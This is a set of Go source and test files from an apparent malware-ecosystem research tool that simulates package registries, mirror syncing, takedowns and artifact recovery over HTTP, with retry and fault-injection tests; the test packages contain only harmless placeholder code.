		IoCs:        ExtractIoCs(p.Body),
		PublishedAt: publishedAt,
		FetchedAt:   fetchedAt,
	}, true
}

// FromPages converts a crawl result into a report corpus, dropping
// non-report pages.
func FromPages(pages []*webworld.Page, fetchedAt time.Time) []*Report {
	out := make([]*Report, 0, len(pages))
	for _, p := range pages {
		if r, ok := FromPage(p, fetchedAt); ok {
			out = append(out, r)
		}
	}
	return out
}
