package reports

import (
	"time"

	"malgraph/internal/webworld"
)

// FromPage parses a crawled web page into a Report by extracting package
// mentions and IoCs from its body — the §III-D path from raw crawl output to
// structured report corpus. Pages naming no packages yield ok=false (they
// are not analysis reports even if topically relevant).
func FromPage(p *webworld.Page, fetchedAt time.Time) (*Report, bool) {
	pkgs := ExtractPackages(p.Body)
	if len(pkgs) == 0 {
		return nil, false
	}
	return &Report{
		URL:         p.URL,
		Site:        p.Site,
		Title:       p.Title,
		Body:        p.Body,
		Packages:    pkgs,
		IoCs:        ExtractIoCs(p.Body),
		PublishedAt: fetchedAt,
	}, true
}

// FromPages converts a crawl result into a report corpus, dropping
// non-report pages.
func FromPages(pages []*webworld.Page, fetchedAt time.Time) []*Report {
	out := make([]*Report, 0, len(pages))
	for _, p := range pages {
		if r, ok := FromPage(p, fetchedAt); ok {
			out = append(out, r)
		}
	}
	return out
}
