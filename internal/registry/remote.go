package registry

import (
	"errors"
	"fmt"
	"net/http"
	"net/url"
	"sort"
	"time"

	"malgraph/internal/ecosys"
)

// View is the read surface the collection pipeline needs from a registry
// deployment: artifact recovery (root first, then mirrors) and release
// metadata. Both the in-process Fleet and the HTTP-backed RemoteFleet
// implement it, so §II-B runs identically against local state or live
// network endpoints.
type View interface {
	// Recover fetches an artifact by coordinate at time t, returning the
	// name of the registry or mirror that served it.
	Recover(coord ecosys.Coord, t time.Time) (*ecosys.Artifact, string, error)
	// ReleaseInfo returns release/takedown metadata, which registries keep
	// even after removal.
	ReleaseInfo(coord ecosys.Coord) (ecosys.Release, bool)
}

var _ View = (*Fleet)(nil)

// ReleaseInfo implements View for the in-process fleet.
func (f *Fleet) ReleaseInfo(coord ecosys.Coord) (ecosys.Release, bool) {
	root, ok := f.Root(coord.Ecosystem)
	if !ok {
		return ecosys.Release{}, false
	}
	return root.Release(coord)
}

// RemoteFleet is a View over HTTP registry servers: one root client and any
// number of mirror clients per ecosystem.
type RemoteFleet struct {
	roots   map[ecosys.Ecosystem]*Client
	mirrors map[ecosys.Ecosystem][]*Client
	http    *http.Client
	opts    []ClientOption
}

var _ View = (*RemoteFleet)(nil)

// NewRemoteFleet returns an empty remote fleet using hc for requests
// (http.DefaultClient when nil). opts apply to every client the fleet
// connects — per-request deadlines and retry policy — so a hung or
// flapping endpoint delays a fetch by at most the configured budget
// instead of stalling the ingest pipeline.
func NewRemoteFleet(hc *http.Client, opts ...ClientOption) *RemoteFleet {
	if hc == nil {
		hc = http.DefaultClient
	}
	return &RemoteFleet{
		roots:   make(map[ecosys.Ecosystem]*Client),
		mirrors: make(map[ecosys.Ecosystem][]*Client),
		http:    hc,
		opts:    opts,
	}
}

// AddRoot connects the root registry for its ecosystem.
func (rf *RemoteFleet) AddRoot(baseURL string) error {
	c, err := NewClient(baseURL, rf.http, rf.opts...)
	if err != nil {
		return fmt.Errorf("remote fleet root: %w", err)
	}
	rf.roots[c.Ecosystem()] = c
	return nil
}

// AddMirror connects one mirror endpoint.
func (rf *RemoteFleet) AddMirror(baseURL string) error {
	c, err := NewClient(baseURL, rf.http, rf.opts...)
	if err != nil {
		return fmt.Errorf("remote fleet mirror: %w", err)
	}
	rf.mirrors[c.Ecosystem()] = append(rf.mirrors[c.Ecosystem()], c)
	return nil
}

// Endpoints returns the connected endpoint names per ecosystem, for logs.
func (rf *RemoteFleet) Endpoints() map[ecosys.Ecosystem][]string {
	out := make(map[ecosys.Ecosystem][]string, len(rf.roots))
	for eco, c := range rf.roots {
		names := []string{c.Name()}
		for _, m := range rf.mirrors[eco] {
			names = append(names, m.Name())
		}
		sort.Strings(names[1:])
		out[eco] = names
	}
	return out
}

// Recover implements View: root first, then each mirror (§II-B). The error
// kind matters to callers — ErrNotFound means every endpoint answered and
// none holds the package (a takedown the collection pipeline records as
// Missing), while a transport failure (unreachable endpoint, HTTP 5xx) is
// returned as-is, wrapping the underlying error: the package's availability
// is simply unknown, and misfiling it as Missing would corrupt the paper's
// missing-rate statistics. A successful fetch from any endpoint wins even
// when an earlier endpoint transport-failed.
func (rf *RemoteFleet) Recover(coord ecosys.Coord, t time.Time) (*ecosys.Artifact, string, error) {
	if _, ok := rf.roots[coord.Ecosystem]; !ok && len(rf.mirrors[coord.Ecosystem]) == 0 {
		// No endpoint was ever queried, so "not found" would be a lie —
		// and the caller would misfile the package as taken down. An
		// unconfigured ecosystem is an operator error, reported as such.
		return nil, "", fmt.Errorf("remote fleet: no endpoints configured for %s (%s)",
			coord.Ecosystem, coord)
	}
	var transportErr error
	if root, ok := rf.roots[coord.Ecosystem]; ok {
		art, err := root.Fetch(coord, t)
		if err == nil {
			return art, root.Name(), nil
		}
		if !errors.Is(err, ErrNotFound) {
			transportErr = err
		}
	}
	for _, m := range rf.mirrors[coord.Ecosystem] {
		art, err := m.Fetch(coord, t)
		if err == nil {
			return art, m.Name(), nil
		}
		if !errors.Is(err, ErrNotFound) && transportErr == nil {
			transportErr = err
		}
	}
	if transportErr != nil {
		return nil, "", fmt.Errorf("remote recover %s: %w", coord, transportErr)
	}
	return nil, "", fmt.Errorf("%w: %s (remote root and all mirrors)", ErrNotFound, coord)
}

// ReleaseInfo implements View by querying the root's release endpoint.
func (rf *RemoteFleet) ReleaseInfo(coord ecosys.Coord) (ecosys.Release, bool) {
	root, ok := rf.roots[coord.Ecosystem]
	if !ok {
		return ecosys.Release{}, false
	}
	rel, err := root.Release(coord)
	if err != nil {
		return ecosys.Release{}, false
	}
	return rel, true
}

// Release fetches release metadata from a remote root registry, under the
// client's deadline and retry policy.
func (c *Client) Release(coord ecosys.Coord) (ecosys.Release, error) {
	q := url.Values{}
	q.Set("name", coord.Name)
	q.Set("version", coord.Version)
	var rel ecosys.Release
	status, err := c.getJSON("/api/v1/release", q, &rel)
	if err != nil {
		return ecosys.Release{}, fmt.Errorf("registry client release: %w", err)
	}
	if status != http.StatusOK {
		return ecosys.Release{}, fmt.Errorf("registry client release: status %d", status)
	}
	return rel, nil
}
