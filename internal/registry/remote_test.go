package registry

// Regression tests for the error contract of RemoteFleet.Recover (ISSUE 3):
// ErrNotFound means every endpoint answered and none holds the package; a
// transport failure (HTTP 5xx, unreachable endpoint) must surface as a
// distinct error so the collection pipeline does not misfile it as a
// takedown.

import (
	"errors"
	"net/http"
	"net/http/httptest"
	"testing"
	"time"

	"malgraph/internal/ecosys"
)

func brokenEndpoint(t *testing.T, name string) *httptest.Server {
	t.Helper()
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/api/v1/info" {
			w.Header().Set("Content-Type", "application/json")
			_, _ = w.Write([]byte(`{"name":"` + name + `","ecosystem":"PyPI"}`))
			return
		}
		http.Error(w, "boom", http.StatusInternalServerError)
	}))
	t.Cleanup(srv.Close)
	return srv
}

func healthyEndpoint(t *testing.T, reg *Registry) *httptest.Server {
	t.Helper()
	srv := httptest.NewServer(NewServer(reg))
	t.Cleanup(srv.Close)
	return srv
}

func TestRemoteRecoverDistinguishesTransportFromNotFound(t *testing.T) {
	epoch := time.Date(2023, 1, 1, 0, 0, 0, 0, time.UTC)
	coord := ecosys.Coord{Ecosystem: ecosys.PyPI, Name: "gone", Version: "1.0.0"}
	live := ecosys.NewArtifact(
		ecosys.Coord{Ecosystem: ecosys.PyPI, Name: "alive", Version: "1.0.0"},
		"d", []ecosys.File{{Path: "setup.py", Content: "import os"}})

	empty := New("pypi-root", ecosys.PyPI)
	if err := empty.Publish(live, epoch, true); err != nil {
		t.Fatal(err)
	}

	t.Run("all endpoints answer, none has it: ErrNotFound", func(t *testing.T) {
		rf := NewRemoteFleet(nil)
		if err := rf.AddRoot(healthyEndpoint(t, empty).URL); err != nil {
			t.Fatal(err)
		}
		_, _, err := rf.Recover(coord, epoch.AddDate(0, 1, 0))
		if !errors.Is(err, ErrNotFound) {
			t.Fatalf("err = %v, want ErrNotFound", err)
		}
	})

	t.Run("5xx mirror: transport error, not ErrNotFound", func(t *testing.T) {
		rf := NewRemoteFleet(nil)
		if err := rf.AddRoot(healthyEndpoint(t, empty).URL); err != nil {
			t.Fatal(err)
		}
		if err := rf.AddMirror(brokenEndpoint(t, "broken").URL); err != nil {
			t.Fatal(err)
		}
		_, _, err := rf.Recover(coord, epoch.AddDate(0, 1, 0))
		if err == nil {
			t.Fatal("recover must fail")
		}
		if errors.Is(err, ErrNotFound) {
			t.Fatalf("transport failure mislabeled as not-found: %v", err)
		}
	})

	t.Run("unconfigured ecosystem: config error, not ErrNotFound", func(t *testing.T) {
		rf := NewRemoteFleet(nil)
		if err := rf.AddRoot(healthyEndpoint(t, empty).URL); err != nil {
			t.Fatal(err)
		}
		npm := ecosys.Coord{Ecosystem: ecosys.NPM, Name: "left-pad", Version: "1.0.0"}
		_, _, err := rf.Recover(npm, epoch)
		if err == nil {
			t.Fatal("recover without endpoints must fail")
		}
		if errors.Is(err, ErrNotFound) {
			t.Fatalf("no endpoint was queried, yet claimed not-found: %v", err)
		}
	})

	t.Run("broken root, healthy mirror holding it: success", func(t *testing.T) {
		rf := NewRemoteFleet(nil)
		if err := rf.AddRoot(brokenEndpoint(t, "broken-root").URL); err != nil {
			t.Fatal(err)
		}
		if err := rf.AddMirror(healthyEndpoint(t, empty).URL); err != nil {
			t.Fatal(err)
		}
		art, from, err := rf.Recover(live.Coord, epoch.AddDate(0, 1, 0))
		if err != nil {
			t.Fatalf("recover through surviving endpoint: %v", err)
		}
		if from != "pypi-root" || art.Hash() != live.Hash() {
			t.Fatalf("recovered %q from %q", art.Coord.Key(), from)
		}
	})
}
