// Package registry implements the package-registry substrate: root
// registries with a full release/takedown event ledger, and mirror registries
// that replicate the root on a sync schedule. Mirrors are the paper's
// malware-recovery channel (§II-B): because a mirror lags the root, a package
// removed from the root may survive in the mirror until the next sync — or
// forever, for accumulate-mode mirrors that never delete.
//
// The package also exposes the registries over HTTP (see http.go) so the
// collection pipeline can run against real network endpoints.
package registry

import (
	"errors"
	"fmt"
	"sort"
	"sync"
	"time"

	"malgraph/internal/ecosys"
)

// Errors reported by registry operations.
var (
	ErrAlreadyPublished = errors.New("registry: coordinate already published")
	ErrNotFound         = errors.New("registry: package not found")
	ErrAlreadyRemoved   = errors.New("registry: package already removed")
)

// Registry is a root package registry for one ecosystem: the authoritative
// store packages are released to and taken down from (Fig. 1 phases 2–4).
type Registry struct {
	name string
	eco  ecosys.Ecosystem

	mu        sync.RWMutex
	releases  map[string]*ecosys.Release
	artifacts map[string]*ecosys.Artifact
	ledger    []ecosys.Release // append-only, in publish order
}

// New returns an empty root registry.
func New(name string, eco ecosys.Ecosystem) *Registry {
	return &Registry{
		name:      name,
		eco:       eco,
		releases:  make(map[string]*ecosys.Release),
		artifacts: make(map[string]*ecosys.Artifact),
	}
}

// Name returns the registry name.
func (r *Registry) Name() string { return r.name }

// Ecosystem returns the ecosystem this registry serves.
func (r *Registry) Ecosystem() ecosys.Ecosystem { return r.eco }

// Publish records a release at the given time. Republishing a coordinate —
// even a removed one — fails: registries ban name/version reuse after a
// takedown (§III-B).
func (r *Registry) Publish(art *ecosys.Artifact, at time.Time, malicious bool) error {
	if art.Coord.Ecosystem != r.eco {
		return fmt.Errorf("registry %s: wrong ecosystem %s", r.name, art.Coord.Ecosystem)
	}
	key := art.Coord.Key()
	r.mu.Lock()
	defer r.mu.Unlock()
	if _, ok := r.releases[key]; ok {
		return fmt.Errorf("%w: %s", ErrAlreadyPublished, art.Coord)
	}
	rel := &ecosys.Release{Coord: art.Coord, ReleasedAt: at, Malicious: malicious}
	r.releases[key] = rel
	r.artifacts[key] = art
	r.ledger = append(r.ledger, *rel)
	return nil
}

// Remove records an administrator takedown at the given time.
func (r *Registry) Remove(coord ecosys.Coord, at time.Time) error {
	r.mu.Lock()
	defer r.mu.Unlock()
	rel, ok := r.releases[coord.Key()]
	if !ok {
		return fmt.Errorf("%w: %s", ErrNotFound, coord)
	}
	if rel.Removed() {
		return fmt.Errorf("%w: %s", ErrAlreadyRemoved, coord)
	}
	if at.Before(rel.ReleasedAt) {
		return fmt.Errorf("registry %s: removal of %s precedes release", r.name, coord)
	}
	rel.RemovedAt = at
	return nil
}

// LiveAt reports whether the coordinate is present in the root at time t.
func (r *Registry) LiveAt(coord ecosys.Coord, t time.Time) bool {
	r.mu.RLock()
	defer r.mu.RUnlock()
	rel, ok := r.releases[coord.Key()]
	if !ok {
		return false
	}
	return liveAt(rel, t)
}

func liveAt(rel *ecosys.Release, t time.Time) bool {
	if t.Before(rel.ReleasedAt) {
		return false
	}
	return !rel.Removed() || t.Before(rel.RemovedAt)
}

// Fetch returns the artifact if the coordinate is live at time t.
func (r *Registry) Fetch(coord ecosys.Coord, t time.Time) (*ecosys.Artifact, error) {
	r.mu.RLock()
	defer r.mu.RUnlock()
	rel, ok := r.releases[coord.Key()]
	if !ok || !liveAt(rel, t) {
		return nil, fmt.Errorf("%w: %s", ErrNotFound, coord)
	}
	return r.artifacts[coord.Key()], nil
}

// Release returns the release record for a coordinate regardless of takedown
// state (registries keep metadata even after removal; the paper queries
// release times of missing packages this way, Fig. 7).
func (r *Registry) Release(coord ecosys.Coord) (ecosys.Release, bool) {
	r.mu.RLock()
	defer r.mu.RUnlock()
	rel, ok := r.releases[coord.Key()]
	if !ok {
		return ecosys.Release{}, false
	}
	return *rel, true
}

// Ledger returns a copy of every release in publish order with current
// takedown state.
func (r *Registry) Ledger() []ecosys.Release {
	r.mu.RLock()
	defer r.mu.RUnlock()
	out := make([]ecosys.Release, 0, len(r.ledger))
	for _, rel := range r.ledger {
		cur := r.releases[rel.Coord.Key()]
		out = append(out, *cur)
	}
	return out
}

// Archive returns the artifact for a coordinate regardless of takedown
// state. Only the simulation harness uses this (the attacker keeps its own
// copies); the collection pipeline must go through Fetch or mirrors.
func (r *Registry) Archive(coord ecosys.Coord) (*ecosys.Artifact, bool) {
	r.mu.RLock()
	defer r.mu.RUnlock()
	a, ok := r.artifacts[coord.Key()]
	return a, ok
}

// Count returns how many coordinates were ever published.
func (r *Registry) Count() int {
	r.mu.RLock()
	defer r.mu.RUnlock()
	return len(r.releases)
}

// SyncMode controls how a mirror applies the root's state at each sync.
type SyncMode int

const (
	// SyncSnapshot mirrors replicate the root's live set exactly: packages
	// removed from the root disappear from the mirror at the next sync.
	SyncSnapshot SyncMode = iota + 1
	// SyncAccumulate mirrors only ever add: once a package has been seen
	// live at any sync, the mirror retains it forever (archive mirrors).
	SyncAccumulate
)

// Mirror is a replica of a root registry that syncs on a fixed period with a
// phase offset. Mirror state at time t is derived lazily from the root's
// ledger and the sync schedule, so mirrors are cheap no matter how many
// packages exist.
type Mirror struct {
	name   string
	root   *Registry
	mode   SyncMode
	epoch  time.Time     // first sync instant
	period time.Duration // > 0
}

// NewMirror creates a mirror of root. epoch is the first sync instant and
// period the sync interval; period must be positive.
func NewMirror(name string, root *Registry, mode SyncMode, epoch time.Time, period time.Duration) (*Mirror, error) {
	if period <= 0 {
		return nil, fmt.Errorf("mirror %s: non-positive sync period", name)
	}
	return &Mirror{name: name, root: root, mode: mode, epoch: epoch, period: period}, nil
}

// Name returns the mirror name.
func (m *Mirror) Name() string { return m.name }

// Ecosystem returns the mirrored ecosystem.
func (m *Mirror) Ecosystem() ecosys.Ecosystem { return m.root.Ecosystem() }

// LastSync returns the most recent sync instant at or before t and true, or
// false when the mirror has never synced by t.
func (m *Mirror) LastSync(t time.Time) (time.Time, bool) {
	if t.Before(m.epoch) {
		return time.Time{}, false
	}
	n := t.Sub(m.epoch) / m.period
	return m.epoch.Add(n * m.period), true
}

// Has reports whether the mirror holds the coordinate at time t.
//
//   - Snapshot mode: present iff the package was live in the root at the
//     mirror's last sync before t. A package removed from the root after
//     that sync is therefore still available here — the §II-B time gap.
//   - Accumulate mode: present iff ANY sync in [epoch, t] fell inside the
//     package's live window in the root.
func (m *Mirror) Has(coord ecosys.Coord, t time.Time) bool {
	last, ok := m.LastSync(t)
	if !ok {
		return false
	}
	rel, ok := m.root.Release(coord)
	if !ok {
		return false
	}
	switch m.mode {
	case SyncAccumulate:
		return m.anySyncInWindow(rel, last)
	default:
		return liveAt(&rel, last)
	}
}

func (m *Mirror) anySyncInWindow(rel ecosys.Release, lastSync time.Time) bool {
	// First sync at or after the release instant.
	var first time.Time
	if !rel.ReleasedAt.After(m.epoch) {
		first = m.epoch
	} else {
		d := rel.ReleasedAt.Sub(m.epoch)
		n := d / m.period
		if m.epoch.Add(n * m.period).Before(rel.ReleasedAt) {
			n++
		}
		first = m.epoch.Add(n * m.period)
	}
	if first.After(lastSync) {
		return false
	}
	if !rel.Removed() {
		return true
	}
	return first.Before(rel.RemovedAt)
}

// Fetch returns the artifact if the mirror holds the coordinate at time t.
func (m *Mirror) Fetch(coord ecosys.Coord, t time.Time) (*ecosys.Artifact, error) {
	if !m.Has(coord, t) {
		return nil, fmt.Errorf("%w: %s (mirror %s)", ErrNotFound, coord, m.name)
	}
	art, ok := m.root.Archive(coord)
	if !ok {
		return nil, fmt.Errorf("%w: %s (mirror %s: root archive miss)", ErrNotFound, coord, m.name)
	}
	return art, nil
}

// Fleet groups the root registries and mirrors of a simulated world and
// answers the collection pipeline's lookups.
type Fleet struct {
	mu      sync.RWMutex
	roots   map[ecosys.Ecosystem]*Registry
	mirrors map[ecosys.Ecosystem][]*Mirror
}

// NewFleet returns an empty fleet.
func NewFleet() *Fleet {
	return &Fleet{
		roots:   make(map[ecosys.Ecosystem]*Registry),
		mirrors: make(map[ecosys.Ecosystem][]*Mirror),
	}
}

// AddRoot registers the root registry for its ecosystem.
func (f *Fleet) AddRoot(r *Registry) {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.roots[r.Ecosystem()] = r
}

// AddMirror registers a mirror under its ecosystem.
func (f *Fleet) AddMirror(m *Mirror) {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.mirrors[m.Ecosystem()] = append(f.mirrors[m.Ecosystem()], m)
}

// Root returns the root registry for an ecosystem.
func (f *Fleet) Root(eco ecosys.Ecosystem) (*Registry, bool) {
	f.mu.RLock()
	defer f.mu.RUnlock()
	r, ok := f.roots[eco]
	return r, ok
}

// Mirrors returns the mirrors for an ecosystem.
func (f *Fleet) Mirrors(eco ecosys.Ecosystem) []*Mirror {
	f.mu.RLock()
	defer f.mu.RUnlock()
	out := make([]*Mirror, len(f.mirrors[eco]))
	copy(out, f.mirrors[eco])
	return out
}

// Roots returns all root registries sorted by ecosystem.
func (f *Fleet) Roots() []*Registry {
	f.mu.RLock()
	defer f.mu.RUnlock()
	out := make([]*Registry, 0, len(f.roots))
	for _, r := range f.roots {
		out = append(out, r)
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Ecosystem() < out[j].Ecosystem() })
	return out
}

// Recover attempts the paper's §II-B recovery: fetch from the root first,
// then fall back to each mirror in order. It returns the artifact and the
// name of the registry that served it.
func (f *Fleet) Recover(coord ecosys.Coord, t time.Time) (*ecosys.Artifact, string, error) {
	if root, ok := f.Root(coord.Ecosystem); ok {
		if art, err := root.Fetch(coord, t); err == nil {
			return art, root.Name(), nil
		}
	}
	for _, m := range f.Mirrors(coord.Ecosystem) {
		if art, err := m.Fetch(coord, t); err == nil {
			return art, m.Name(), nil
		}
	}
	return nil, "", fmt.Errorf("%w: %s (root and all mirrors)", ErrNotFound, coord)
}
