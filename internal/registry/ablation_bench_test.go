package registry

// Ablation benchmarks for the mirror substrate: sync mode and sync period
// directly control how many taken-down packages remain recoverable — the
// §II-B mechanism behind the paper's 39.27% missing rate.

import (
	"fmt"
	"testing"
	"time"

	"malgraph/internal/ecosys"
	"malgraph/internal/xrand"
)

// buildTakedownWorld publishes n malicious packages with exponential
// lifetimes (mean meanLifeDays) across one year.
func buildTakedownWorld(b *testing.B, n int, meanLifeDays float64) *Registry {
	b.Helper()
	root := New("root", ecosys.PyPI)
	rng := xrand.New(7)
	base := time.Date(2023, 1, 1, 0, 0, 0, 0, time.UTC)
	for i := 0; i < n; i++ {
		coord := ecosys.Coord{Ecosystem: ecosys.PyPI, Name: fmt.Sprintf("pkg%05d", i), Version: "1.0.0"}
		art := ecosys.NewArtifact(coord, "d", []ecosys.File{{Path: "setup.py", Content: "x=1"}})
		rel := base.Add(time.Duration(rng.Float64() * 365 * 24 * float64(time.Hour)))
		if err := root.Publish(art, rel, true); err != nil {
			b.Fatal(err)
		}
		life := time.Duration(rng.ExpFloat64() * meanLifeDays * 24 * float64(time.Hour))
		if life < time.Hour {
			life = time.Hour
		}
		if err := root.Remove(coord, rel.Add(life)); err != nil {
			b.Fatal(err)
		}
	}
	return root
}

// BenchmarkAblation_MirrorMode compares snapshot vs accumulate mirrors:
// snapshot mirrors eventually sync past every removal, accumulate mirrors
// keep whatever a sync ever saw.
func BenchmarkAblation_MirrorMode(b *testing.B) {
	root := buildTakedownWorld(b, 2000, 1.5)
	collectAt := time.Date(2024, 6, 1, 0, 0, 0, 0, time.UTC)
	for _, mode := range []struct {
		name string
		mode SyncMode
	}{{"snapshot", SyncSnapshot}, {"accumulate", SyncAccumulate}} {
		b.Run(mode.name, func(b *testing.B) {
			m, err := NewMirror("m", root, mode.mode, time.Date(2022, 1, 1, 0, 0, 0, 0, time.UTC), 2*24*time.Hour)
			if err != nil {
				b.Fatal(err)
			}
			recovered := 0
			for i := 0; i < b.N; i++ {
				recovered = 0
				for _, rel := range root.Ledger() {
					if m.Has(rel.Coord, collectAt) {
						recovered++
					}
				}
			}
			b.ReportMetric(float64(recovered)/2000*100, "recovered_pct")
		})
	}
}

// BenchmarkAblation_MirrorPeriod sweeps the sync period for accumulate
// mirrors: recovery falls as the sync gap grows past typical takedown
// delays (Fig. 8 cause 2).
func BenchmarkAblation_MirrorPeriod(b *testing.B) {
	root := buildTakedownWorld(b, 2000, 1.5)
	collectAt := time.Date(2024, 6, 1, 0, 0, 0, 0, time.UTC)
	for _, days := range []int{1, 2, 7, 30} {
		b.Run(fmt.Sprintf("period=%dd", days), func(b *testing.B) {
			m, err := NewMirror("m", root, SyncAccumulate,
				time.Date(2022, 1, 1, 0, 0, 0, 0, time.UTC), time.Duration(days)*24*time.Hour)
			if err != nil {
				b.Fatal(err)
			}
			recovered := 0
			for i := 0; i < b.N; i++ {
				recovered = 0
				for _, rel := range root.Ledger() {
					if m.Has(rel.Coord, collectAt) {
						recovered++
					}
				}
			}
			b.ReportMetric(float64(recovered)/2000*100, "recovered_pct")
		})
	}
}
