package registry

// Retry/deadline behaviour of the HTTP client (ISSUE 6): transport errors
// and 5xx answers are retried with backoff and then succeed transparently;
// a hung endpoint is cut off by the per-request deadline instead of
// stalling the caller; 404 stays a definitive, never-retried answer.

import (
	"context"
	"errors"
	"net/http"
	"net/http/httptest"
	"sync/atomic"
	"testing"
	"time"

	"malgraph/internal/ecosys"
	"malgraph/internal/faultinject"
	"malgraph/internal/retry"
)

// fastRetry keeps test retries instant while preserving the attempt count.
func fastRetry(attempts int) retry.Policy {
	return retry.Policy{
		Attempts:  attempts,
		BaseDelay: time.Millisecond,
		Sleep:     func(context.Context, time.Duration) error { return nil },
	}
}

func testRegistry(t *testing.T) (*Registry, *ecosys.Artifact, time.Time) {
	t.Helper()
	epoch := time.Date(2023, 1, 1, 0, 0, 0, 0, time.UTC)
	art := ecosys.NewArtifact(
		ecosys.Coord{Ecosystem: ecosys.PyPI, Name: "flaky-served", Version: "1.0.0"},
		"d", []ecosys.File{{Path: "setup.py", Content: "import os"}})
	reg := New("pypi-root", ecosys.PyPI)
	if err := reg.Publish(art, epoch, true); err != nil {
		t.Fatal(err)
	}
	return reg, art, epoch
}

func TestClientRetriesTransientFailuresThenSucceeds(t *testing.T) {
	reg, art, epoch := testRegistry(t)
	srv := httptest.NewServer(NewServer(reg))
	defer srv.Close()

	for _, tc := range []struct {
		name   string
		status int // 0 = transport error
	}{
		{"transport error then success", 0},
		{"503 then success", http.StatusServiceUnavailable},
	} {
		t.Run(tc.name, func(t *testing.T) {
			tr := faultinject.NewTransport(nil)
			tr.Match(func(r *http.Request) bool { return r.URL.Path == "/api/v1/package" })
			hc := &http.Client{Transport: tr}
			c, err := NewClient(srv.URL, hc, WithRetry(fastRetry(3)))
			if err != nil {
				t.Fatal(err)
			}
			tr.FailNext(2, tc.status)
			got, err := c.Fetch(art.Coord, epoch.AddDate(0, 1, 0))
			if err != nil {
				t.Fatalf("fetch must survive two injected faults: %v", err)
			}
			if got.Hash() != art.Hash() {
				t.Fatalf("fetched wrong artifact %s", got.Coord.Key())
			}
			if tr.Attempts() != 3 {
				t.Fatalf("attempts = %d, want 3 (2 failures + 1 success)", tr.Attempts())
			}
		})
	}
}

func TestClientExhaustsRetriesOnPersistentFailure(t *testing.T) {
	reg, art, epoch := testRegistry(t)
	srv := httptest.NewServer(NewServer(reg))
	defer srv.Close()

	tr := faultinject.NewTransport(nil)
	tr.Match(func(r *http.Request) bool { return r.URL.Path == "/api/v1/package" })
	hc := &http.Client{Transport: tr}
	c, err := NewClient(srv.URL, hc, WithRetry(fastRetry(3)))
	if err != nil {
		t.Fatal(err)
	}
	tr.FailNext(100, 0)
	_, err = c.Fetch(art.Coord, epoch.AddDate(0, 1, 0))
	if err == nil {
		t.Fatal("fetch must fail once the retry budget is spent")
	}
	if errors.Is(err, ErrNotFound) {
		t.Fatalf("transport exhaustion mislabeled as not-found: %v", err)
	}
	if tr.Attempts() != 3 {
		t.Fatalf("attempts = %d, want exactly the budget of 3", tr.Attempts())
	}
}

func TestClientNeverRetriesNotFound(t *testing.T) {
	reg, _, epoch := testRegistry(t)
	var packageCalls atomic.Int64
	inner := NewServer(reg)
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/api/v1/package" {
			packageCalls.Add(1)
		}
		inner.ServeHTTP(w, r)
	}))
	defer srv.Close()

	c, err := NewClient(srv.URL, nil, WithRetry(fastRetry(5)))
	if err != nil {
		t.Fatal(err)
	}
	missing := ecosys.Coord{Ecosystem: ecosys.PyPI, Name: "never-published", Version: "0.1"}
	_, err = c.Fetch(missing, epoch)
	if !errors.Is(err, ErrNotFound) {
		t.Fatalf("err = %v, want ErrNotFound", err)
	}
	if n := packageCalls.Load(); n != 1 {
		t.Fatalf("404 was requested %d times; a definitive answer must not be retried", n)
	}
}

func TestClientDeadlineCutsOffHungEndpoint(t *testing.T) {
	reg, art, epoch := testRegistry(t)
	inner := NewServer(reg)
	release := make(chan struct{})
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/api/v1/package" {
			<-release // hang until the test ends
			return
		}
		inner.ServeHTTP(w, r)
	}))
	defer func() { close(release); srv.Close() }()

	c, err := NewClient(srv.URL, nil,
		WithTimeout(50*time.Millisecond), WithRetry(fastRetry(2)))
	if err != nil {
		t.Fatal(err)
	}
	start := time.Now()
	_, err = c.Fetch(art.Coord, epoch.AddDate(0, 1, 0))
	elapsed := time.Since(start)
	if err == nil {
		t.Fatal("fetch against a hung endpoint must fail")
	}
	if errors.Is(err, ErrNotFound) {
		t.Fatalf("timeout mislabeled as not-found: %v", err)
	}
	if elapsed > 2*time.Second {
		t.Fatalf("deadline did not bound the hang: took %v", elapsed)
	}
}

// TestRemoteFleetRecoversThroughFlappingMirror exercises the fleet-level
// path: the only endpoint holding the artifact flaps (error-then-succeed),
// and the retrying client still recovers it, preserving the Recover
// success contract without any caller-side retry loop.
func TestRemoteFleetRecoversThroughFlappingMirror(t *testing.T) {
	reg, art, epoch := testRegistry(t)
	srv := httptest.NewServer(NewServer(reg))
	defer srv.Close()

	tr := faultinject.NewTransport(nil)
	tr.Match(func(r *http.Request) bool { return r.URL.Path == "/api/v1/package" })
	rf := NewRemoteFleet(&http.Client{Transport: tr}, WithRetry(fastRetry(3)))
	if err := rf.AddRoot(srv.URL); err != nil {
		t.Fatal(err)
	}
	tr.FailNext(2, http.StatusBadGateway)
	got, from, err := rf.Recover(art.Coord, epoch.AddDate(0, 1, 0))
	if err != nil {
		t.Fatalf("recover through flapping endpoint: %v", err)
	}
	if from != "pypi-root" || got.Hash() != art.Hash() {
		t.Fatalf("recovered %q from %q", got.Coord.Key(), from)
	}
}
