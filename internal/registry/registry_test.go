package registry

import (
	"errors"
	"testing"
	"testing/quick"
	"time"

	"malgraph/internal/ecosys"
)

var t0 = time.Date(2023, 1, 1, 0, 0, 0, 0, time.UTC)

func day(n int) time.Time { return t0.AddDate(0, 0, n) }

func art(name, version string) *ecosys.Artifact {
	return ecosys.NewArtifact(
		ecosys.Coord{Ecosystem: ecosys.PyPI, Name: name, Version: version},
		"test package",
		[]ecosys.File{{Path: "setup.py", Content: "print('" + name + "')\n"}},
	)
}

func TestPublishAndFetch(t *testing.T) {
	r := New("pypi-root", ecosys.PyPI)
	a := art("urllib", "1.0.0")
	if err := r.Publish(a, day(0), true); err != nil {
		t.Fatal(err)
	}
	got, err := r.Fetch(a.Coord, day(1))
	if err != nil {
		t.Fatal(err)
	}
	if got.Hash() != a.Hash() {
		t.Fatal("fetched artifact differs")
	}
	if _, err := r.Fetch(a.Coord, day(-1)); !errors.Is(err, ErrNotFound) {
		t.Fatalf("pre-release fetch: %v", err)
	}
}

func TestPublishDuplicate(t *testing.T) {
	r := New("root", ecosys.PyPI)
	a := art("x", "1.0.0")
	if err := r.Publish(a, day(0), true); err != nil {
		t.Fatal(err)
